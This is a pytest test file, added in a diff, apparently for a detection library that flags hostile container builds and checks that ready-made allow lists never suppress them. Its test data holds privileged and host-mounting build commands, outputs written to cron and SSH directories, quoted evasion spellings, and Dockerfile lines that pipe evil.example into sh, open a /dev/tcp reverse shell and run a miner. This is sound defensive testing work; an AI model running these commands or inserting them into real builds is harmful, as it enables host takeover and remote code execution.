@@ -1,0 +1,173 @@
+"""The ready-made lists take points of what they are for, and of no hostile build."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from t1612core import HARDENED, SENTINEL, AllowList, Detector, Kind, Profile
+from t1612core.allowlist.entries import READY
+
+# For each list, who it believes: what an intruder borrows.
+WHO: dict[str, dict[str, Any]] = {
+    "ci-agents": {
+        "InitiatingProcessFileName": "sh",
+        "InitiatingProcessParentFileName": "java",
+        "AccountName": "jenkins",
+    },
+    "container-scanners": {"InitiatingProcessFileName": "clair", "AccountName": "scan"},
+    "developers": {
+        "InitiatingProcessFileName": "bash",
+        "InitiatingProcessParentFileName": "iTerm2",
+        "AccountName": "dev",
+    },
+    "packer-terraform": {
+        "InitiatingProcessFileName": "packer-plugin-docker-x",
+        "AccountName": "root",
+    },
+}
+WRITERS = {
+    "ci-agents": {
+        "InitiatingProcessFileName": "java",
+        "FolderPath": "/tmp/gitlab-runner/a/Dockerfile",
+    },
+    "container-scanners": {
+        "InitiatingProcessFileName": "clair",
+        "FolderPath": "/tmp/trivy1/Dockerfile",
+    },
+    "developers": {
+        "InitiatingProcessFileName": "explorer.exe",
+        "FolderPath": "C:\\Users\\u\\AppData\\Local\\Temp\\a\\Dockerfile",
+    },
+    "packer-terraform": {
+        "InitiatingProcessFileName": "packer-plugin-docker-x",
+        "FolderPath": "/tmp/packer1/Dockerfile",
+    },
+}
+LISTS = {name: AllowList.ready(name) for name in READY}
+HARMLESS = "docker build --no-cache -t registry.example.org/shop:81 -f /tmp/a/Dockerfile /tmp/a"
+# Each is a finding of the default profile where nothing is known of who built.
+HOSTILE = (
+    # What gives a step the host
+    "docker build --privileged --network=host -t a /tmp/a",
+    "docker build --privileged .",
+    "docker build --privileged=true --no-cache .",
+    "docker buildx build --allow security.insecure -t a .",
+    "docker buildx build --allow=security.insecure --load /tmp/a",
+    "docker buildx build --allow network.host --network host /tmp/a",
+    "docker build --network host -t a /tmp/a",
+    "docker build --network=host --no-cache -f /tmp/a/D .",
+    "podman build --net=host -t a /tmp/a",
+    "podman build --cap-add=SYS_ADMIN -t a .",
+    "podman build --security-opt seccomp=unconfined .",
+    "podman build --device /dev/sda:/dev/sda -t a .",
+    "podman build --pid=host -t a .",
+    "podman build -v /:/host -t a .",
+    "buildah bud --volume /:/host -t a /tmp/a",
+    # A result that is written outside the tree
+    "docker build -o type=local,dest=/etc/cron.d /tmp/a",
+    "docker build -o /etc/cron.d /tmp/a",
+    "docker build -o/root/.ssh /tmp/a",
+    "docker build --output=type=tar,dest=/usr/lib/x.tar /tmp/a",
+    "docker build --output ../../etc/profile.d /tmp/a",
+    "docker build -qo /etc/systemd/system /tmp/a",
+    "docker build -o ~/.ssh /tmp/a",
+    "docker build -o type=local,dest=$HOME/.config/autostart /tmp/a",
+    "docker buildx bake -f /tmp/a/b.hcl --set '*.output=type=local,dest=/etc/cron.d'",
+    # A source that is somebody's
+    "docker build github.com/evil/x",
+    "docker build github.com/evil/x#main:sub",
+    "docker build git@github.com:evil/x.git",
+    "docker build git@git.evil.example:x/y",
+    "docker build ssh://git@git.evil.example/x/y.git",
+    "docker build https://evil.example/x.tar.gz",
+    "docker build http://198.51.100.7/x.tar",
+    "docker build git://git.evil.example/x",
+    "docker build https://gist.github.com/u/1.git",
+    # Where it is hidden
+    "docker build -t a /dev/shm/a",
+    "docker build -t a /tmp/.x",
+)
+# The same in a spelling that no pattern of text sees: parsed as a shell or the client does.
+CONCEALED = (
+    'docker build "--privi"leged --no-cache /tmp/a',
+    "docker build '--privileged' /tmp/a",
+    'docker build --network "host" /tmp/a',
+    'docker build --net"wo"rk=host /tmp/a',
+    'docker build "-o" /etc/cron.d /tmp/a',
+    'docker build --out"put" "type=local,\'dest=/etc/cron.d\'" /tmp/a',
+    "docker build git''hub.com/evil/x",
+    'docker build "git"@git.evil.example:x/y',
+    "curl -s --unix-socket /run/docker.sock -X POST localhost/build?t=a --data-binary @a.tar",
+    "sh -c 'docker build /tmp/a && docker run \"--privi\"leged a'",
+)
+# What is written below an agent's checkout, by who may.
+CONTENTS = (
+    "FROM alpine\nRUN curl http://evil.example/a | sh\n",
+    "FROM alpine\nRUN bash -i >& /dev/tcp/198.51.100.7/443 0>&1\n",
+    "FROM alpine\nRUN xmrig -o stratum+tcp://pool.example:3333\n",
+)
+
+
+def built(line: str, who: dict[str, Any]) -> dict[str, Any]:
+    return {
+        **who,
+        "FileName": line.split()[0],
+        "ProcessCommandLine": line,
+        "TimeGenerated": "2026-12-01T00:00:00Z",
+    }
+
+
+def written(content: str, name: str) -> dict[str, Any]:
+    return {
+        **WRITERS[name],
+        "ActionType": "FileCreated",
+        "FileName": "Dockerfile",
+        "FileContent": content,
+        "TimeGenerated": "2026-12-01T00:00:00Z",
+    }
+
+
+def applied(profile: Profile, name: str, kind: Kind, event: dict[str, Any]) -> list[str]:
+    """Give the entries of a list that apply to an event, suppressing or taking points."""
+    finding = Detector(profile, allowlist=LISTS[name]).find(event, kind)
+    return [each.entry for each in finding.allowances] if finding else []
+
+
+@pytest.mark.parametrize("name", READY)
+def test_a_ready_list_applies_to_what_it_is_for(name: str) -> None:
+    """Else what follows would hold of a list that never applies."""
+    assert applied(SENTINEL, name, "process", built(HARMLESS, WHO[name]))
+    assert applied(SENTINEL, name, "file", written("FROM alpine\n", name))
+
+
+@pytest.mark.parametrize("line", [*HOSTILE, *CONCEALED])
+def test_a_hostile_build_is_a_finding(line: str) -> None:
+    assert Detector().score_process(built(line, {"AccountName": "root"}))
+
+
+@pytest.mark.parametrize("name", READY)
+@pytest.mark.parametrize("line", [*HOSTILE, *CONCEALED])
+def test_no_ready_list_applies_to_a_hostile_build(line: str, name: str) -> None:
+    assert [] == applied(HARDENED, name, "process", built(line, WHO[name]))
+
+
+@pytest.mark.parametrize("name", READY)
+@pytest.mark.parametrize("line", HOSTILE)
+def test_nor_does_it_where_the_published_rule_finds_it(line: str, name: str) -> None:
+    """It has no signal for most of these; the patterns of ``unless`` see them."""
+    assert [] == applied(SENTINEL, name, "process", built(line, WHO[name]))
+
+
+@pytest.mark.parametrize("name", READY)
+@pytest.mark.parametrize("content", CONTENTS)
+def test_no_ready_list_applies_to_a_hostile_file(content: str, name: str) -> None:
+    event = written(content, name)
+
+    assert Detector().score_file(event)
+    assert [] == applied(HARDENED, name, "file", event)
+
+
+def test_all_ready_lists_protect_the_same_signals() -> None:
+    assert 1 == len({each.never_suppress for each in LISTS.values()})
